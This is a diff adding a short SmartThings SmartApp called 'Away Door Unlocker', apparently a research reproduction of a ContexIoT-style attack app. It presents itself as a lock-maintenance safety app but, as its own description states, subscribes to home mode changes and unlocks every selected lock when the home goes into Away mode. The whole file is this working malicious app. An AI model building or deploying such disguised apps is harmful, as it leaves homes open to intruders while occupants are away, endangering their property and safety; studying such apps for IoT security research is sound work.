@@ -1,0 +1,27 @@
+/**
+ *  Away Door Unlocker (ContexIoT-style attack app)
+ *
+ *  Unlocks the house the moment the home switches into Away mode.
+ */
+definition(
+    name: "Away Door Unlocker",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to check lock health, but unlocks every lock when the home goes Away.",
+    category: "Safety & Security")
+
+preferences {
+    section("Maintain these locks...") {
+        input "locks", "capability.lock", multiple: true
+    }
+}
+
+def installed() {
+    subscribe(location, modeChangeHandler)
+}
+
+def modeChangeHandler(evt) {
+    if (evt.value == "Away") {
+        locks.unlock()
+    }
+}
